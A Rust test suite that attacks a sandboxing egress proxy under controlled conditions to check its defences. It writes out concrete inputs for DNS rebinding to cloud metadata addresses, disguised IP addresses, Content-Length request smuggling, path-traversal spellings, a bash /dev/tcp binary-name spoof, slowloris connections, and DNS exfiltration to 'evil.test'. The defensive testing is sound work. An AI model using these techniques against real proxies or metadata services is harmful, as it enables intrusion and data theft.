//! The attacks on the proxy themselves: each says whether it worked.

use super::scene::{Kind, PUBLIC, Scene, Server, Setting, Trust, rule, scene, server, talk};
use super::suite::{Layer, Outcome};
use crate::credentials::{Credential, CredentialStore, Secret, Source};
use crate::proxy::defence::Defence;
use crate::resolver::{Resolve, ResolveError, Resolving};
use std::net::IpAddr;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::AsyncWriteExt;

const READ_ONLY: &str = "        protocol: rest\n        enforcement: enforce\n        access: read-only";
const ENFORCED: &str = "        protocol: rest\n        enforcement: enforce\n        rules:\n          - allow: {method: \"*\", path: \"/open/**\"}\n        deny_rules:\n          - {method: \"*\", path: \"/open/secret\"}";

impl Layer {
    fn without(self, defence: Defence) -> Vec<Defence> {
        if self == Self::LeftOut { vec![defence] } else { Vec::new() }
    }
}

/// A TLS server of `api.test` under these keys, and the proxy before it.
async fn inspecting(keys: &str, without: Vec<Defence>) -> (Scene, Server) {
    let mut setting = Setting::new("");
    let server = server(Kind::Tls(setting.vendor.clone())).await;
    setting.policy = rule(server.port, keys);
    setting.without = without;
    (scene(setting).await, server)
}

impl Server {
    fn got(&self, beginning: &str) -> bool {
        self.heads.lock().unwrap().iter().any(|head| head.starts_with(beginning))
    }
}

pub(super) async fn odd_hosts(layer: Layer) -> Outcome {
    if layer == Layer::LeftOut {
        return Outcome::Reason(
            "policy, resolver and server get one parsed name: there is no second reading",
        );
    }
    let scene = scene(Setting::new(rule(443, ""))).await;
    for authority in [
        "other.test\0.api.test:443",
        "api.test@other.test:443",
        "api.test%2eother.test:443",
        "api.test\t:443",
    ] {
        scene.raw(&format!("CONNECT {authority} HTTP/1.1\r\nHost: api.test:443\r\n\r\n")).await;
    }
    (!scene.dialled().is_empty()).into()
}

pub(super) async fn plain_requests(layer: Layer) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut setting = Setting::new(rule(server.port, READ_ONLY));
    setting.without = layer.without(Defence::PlainRequests);
    let scene = scene(setting).await;
    let head = format!(
        "POST http://api.test:{0}/a HTTP/1.1\r\nHost: api.test:{0}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        server.port
    );
    scene.raw(&head).await;
    server.got("POST /a").into()
}

/// The layer is the list itself: a host that it names is reached.
pub(super) async fn another_host(layer: Layer) -> Outcome {
    let server = server(Kind::Plain).await;
    let listed = if layer == Layer::There { "api.test" } else { "other.test" };
    let scene =
        scene(Setting::new(rule(server.port, "").replace("host: api.test", &format!("host: {listed}"))))
            .await;
    scene.tunnel(&format!("other.test:{}", server.port)).await.is_ok().into()
}

/// Answers differently each time, and remembers that it was asked.
struct Changing {
    answers: Vec<IpAddr>,
    asked: AtomicUsize,
    names: Mutex<Vec<String>>,
}

impl Changing {
    fn new(answers: &[&str]) -> Arc<Self> {
        let answers = answers.iter().map(|text| text.parse().unwrap()).collect();
        Arc::new(Self { answers, asked: AtomicUsize::new(0), names: Mutex::default() })
    }
}

impl Resolve for Changing {
    fn resolve<'a>(&'a self, host: &'a str) -> Resolving<'a> {
        self.names.lock().unwrap().push(host.to_owned());
        let at = self.asked.fetch_add(1, Ordering::Relaxed).min(self.answers.len() - 1);
        let answer: Result<Vec<IpAddr>, ResolveError> = Ok(vec![self.answers[at]]);
        Box::pin(std::future::ready(answer))
    }
}

pub(super) async fn early_lookup(layer: Layer) -> Outcome {
    let resolver = Changing::new(&[PUBLIC]);
    let mut setting = Setting::new(rule(443, ""));
    setting.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
    setting.without = layer.without(Defence::DecidedFirst);
    let scene = scene(setting).await;
    assert!(scene.tunnel("c2VjcmV0.evil.test:443").await.is_err());
    let told = !resolver.names.lock().unwrap().is_empty();
    told.into()
}

pub(super) async fn rebinding(layer: Layer) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut setting = Setting::new(rule(server.port, ""));
    setting.resolver = Some(Changing::new(&[PUBLIC, "169.254.169.254"]));
    setting.without = layer.without(Defence::OneLookup);
    let scene = scene(setting).await;
    drop(scene.tunnel(&format!("api.test:{}", server.port)).await);
    scene.dialled().contains(&"169.254.169.254".parse().unwrap()).into()
}

pub(super) async fn disguised_addresses(layer: Layer) -> Outcome {
    let mut worked = 0;
    let disguises = [
        "::ffff:169.254.169.254",
        "64:ff9b::a9fe:a9fe",
        "2002:7f00:1::",
        "::7f00:1",
        "127.0.0.1",
        "fd00::1",
        "0.0.0.0",
    ];
    for address in disguises {
        let server = server(Kind::Plain).await;
        let mut setting = Setting::new(rule(server.port, ""));
        setting.names = vec![("api.test", vec![PUBLIC.parse().unwrap(), address.parse().unwrap()])];
        setting.without = layer.without(Defence::Addresses);
        let scene = scene(setting).await;
        drop(scene.tunnel(&format!("api.test:{}", server.port)).await);
        worked += usize::from(!scene.dialled().is_empty());
    }
    match layer {
        Layer::There => worked > 0,
        Layer::LeftOut => worked == disguises.len(),
    }
    .into()
}

/// A client that follows a redirect asks anew; the layer is that the new question is decided.
pub(super) async fn redirect(layer: Layer) -> Outcome {
    let mut setting = Setting::new("");
    let target = server(Kind::Plain).await;
    let listed = if layer == Layer::There { "api.test" } else { "other.test" };
    setting.policy = rule(target.port, "").replace("host: api.test", &format!("host: {listed}"));
    setting.names.push(("metadata.test", vec!["169.254.169.254".parse().unwrap()]));
    let scene = scene(setting).await;
    let location = format!("http://other.test:{}/open", target.port);
    scene
        .raw(&format!(
            "GET {location} HTTP/1.1\r\nHost: other.test:{}\r\nConnection: close\r\n\r\n",
            target.port
        ))
        .await;
    let metadata =
        scene.raw("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").await;
    assert!(metadata.starts_with("HTTP/1.1 403 "), "{metadata}");
    target.got("GET /open").into()
}

pub(super) async fn smuggling(layer: Layer) -> Outcome {
    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Heads)).await;
    let hidden =
        format!("GET /open/secret HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
    // The server takes the first length, a forgiving proxy the last.
    let head = format!(
        "POST /open/a HTTP/1.1\r\nHost: api.test:{}\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{hidden}",
        server.port,
        hidden.len()
    );
    talk(scene.inspected(server.port).await, &head).await;
    server.got("GET /open/secret").into()
}

pub(super) async fn path_spellings(layer: Layer) -> Outcome {
    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Paths)).await;
    let mut worked = 0;
    let spellings = ["/open/x/../secret", "/open/%73ecret", "/open//secret"];
    for path in spellings {
        let head =
            format!("GET {path} HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
        talk(scene.inspected(server.port).await, &head).await;
        worked += usize::from(server.got(&format!("GET {path} ")) || server.got("GET /open/secret "));
    }
    match layer {
        Layer::There => worked > 0,
        Layer::LeftOut => worked == spellings.len(),
    }
    .into()
}

pub(super) async fn another_host_inside(layer: Layer) -> Outcome {
    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::Agreement)).await;
    let fronted = "GET /open/a HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n";
    talk(scene.inspected(server.port).await, fronted).await;
    let host = server.heads.lock().unwrap().iter().any(|head| head.contains("Host: other.test"));
    let stream = scene.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
    // The certificate is for the tunnel's host; that the handshake was let happen is what counts.
    drop(scene.tls(stream, Trust::Run, "other.test").await);
    host.into()
}

pub(super) async fn second_request(layer: Layer) -> Outcome {
    let (scene, server) = inspecting(ENFORCED, layer.without(Defence::EveryRequest)).await;
    let host = format!("Host: api.test:{}", server.port);
    let both = format!(
        "GET /open/a HTTP/1.1\r\n{host}\r\n\r\nGET /open/secret HTTP/1.1\r\n{host}\r\nConnection: close\r\n\r\n"
    );
    talk(scene.inspected(server.port).await, &both).await;
    assert!(server.got("GET /open/a"));
    server.got("GET /open/secret").into()
}

pub(super) async fn own_name(layer: Layer) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut setting = Setting::new(rule(server.port, "").replace("/**", "/usr/bin/only-this"));
    setting.without = layer.without(Defence::Binary);
    let scene = scene(setting).await;
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'CONNECT api.test:{1} HTTP/1.1\\r\\nHost: api.test:{1}\\r\\n\\r\\n' >&3; read -r -t 10 line <&3; echo \"$line\"",
        scene.proxy.port(),
        server.port
    );
    let mut command = Command::new("bash");
    command.args(["-c", "exec -a /usr/bin/only-this bash -c \"$1\"", "bash", &script]);
    let output = tokio::task::spawn_blocking(move || command.output()).await.unwrap().unwrap();
    String::from_utf8_lossy(&output.stdout).contains(" 200 ").into()
}

/// The layer is the binding: an endpoint that the policy binds the provider to gets the value.
pub(super) async fn credential_elsewhere(layer: Layer) -> Outcome {
    let mut setting = Setting::new("");
    let server = server(Kind::Tls(setting.vendor.clone())).await;
    let source = Source::fixed(Secret::new("s3cret".to_owned()));
    let credential = Credential { provider: "p".into(), key: "TOKEN".into(), source, endpoints: Vec::new() };
    let store = CredentialStore::new(vec![credential]).unwrap();
    let placeholder = store.placeholders()[0].1.clone();
    setting.credentials = Arc::new(store);
    let binding = "\n        credential_binding: {provider: p}";
    let keys = if layer == Layer::There { READ_ONLY.to_owned() } else { format!("{READ_ONLY}{binding}") };
    setting.policy = rule(server.port, &keys);
    let scene = scene(setting).await;
    let head = format!(
        "GET /a?key={placeholder} HTTP/1.1\r\nHost: api.test:{}\r\nX-Token: {placeholder}\r\nConnection: close\r\n\r\n",
        server.port
    );
    talk(scene.inspected(server.port).await, &head).await;
    assert!(!format!("{:?}", scene.events.lock().unwrap()).contains("s3cret"));
    let heads = server.heads.lock().unwrap();
    heads.iter().any(|head| head.contains("s3cret") || head.contains(&placeholder)).into()
}

/// The layer is that requests are read: with a rule for the connection alone, anything is posted to an allowed host.
pub(super) async fn allowed_relay(layer: Layer) -> Outcome {
    let mut setting = Setting::new("");
    let server = server(Kind::Tls(setting.vendor.clone())).await;
    let (keys, trust) = match layer {
        Layer::There => (READ_ONLY, Trust::Run),
        Layer::LeftOut => ("", Trust::Vendor),
    };
    setting.policy = rule(server.port, keys);
    let scene = scene(setting).await;
    let stream = scene.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
    let stream = scene.tls(stream, trust, "api.test").await.unwrap();
    let head = format!(
        "POST /gists HTTP/1.1\r\nHost: api.test:{}\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndata",
        server.port
    );
    talk(stream, &head).await;
    server.got("POST /gists").into()
}

/// With the key anybody can speak for any host; so it must not be where the sandbox can read it.
pub(super) async fn authority_key(layer: Layer) -> Outcome {
    let authority = crate::tls::Authority::new().unwrap();
    if layer == Layer::There {
        let open = std::fs::read_dir("/proc/self/fd").unwrap().filter_map(Result::ok);
        let files = open.filter_map(|entry| std::fs::read_link(entry.path()).ok());
        let on_disk = files.filter(|path| path.is_file()).any(|path| {
            std::fs::read(path).is_ok_and(|text| String::from_utf8_lossy(&text).contains("PRIVATE KEY"))
        });
        return (on_disk || authority.certificate_pem().contains("PRIVATE")).into();
    }
    let (client, server) = tokio::io::duplex(1 << 16);
    let roots = crate::dial::Roots::only([authority.certificate().clone()]);
    let config = authority.server_config("bank.test", None).unwrap();
    let accepting = tokio_rustls::TlsAcceptor::from(config).accept(server);
    let name = rustls::pki_types::ServerName::try_from("bank.test").unwrap();
    let connecting = tokio_rustls::TlsConnector::from(Arc::new(roots.client_config())).connect(name, client);
    let (accepted, connected) = tokio::join!(accepting, connecting);
    (accepted.is_ok() && connected.is_ok()).into()
}

/// The layer is the time that a head may take.
pub(super) async fn slow_heads(layer: Layer) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut setting = Setting::new(rule(server.port, ""));
    setting.limits.connections = 2;
    setting.limits.head_time =
        if layer == Layer::There { Duration::from_millis(100) } else { Duration::from_secs(600) };
    let scene = scene(setting).await;
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut stream = scene.connect().await;
        stream.write_all(b"G").await.unwrap();
        held.push(stream);
    }
    let authority = format!("api.test:{}", server.port);
    let others = tokio::time::timeout(Duration::from_secs(5), scene.tunnel(&authority)).await;
    let starved = !matches!(others, Ok(Ok(_)));
    starved.into()
}
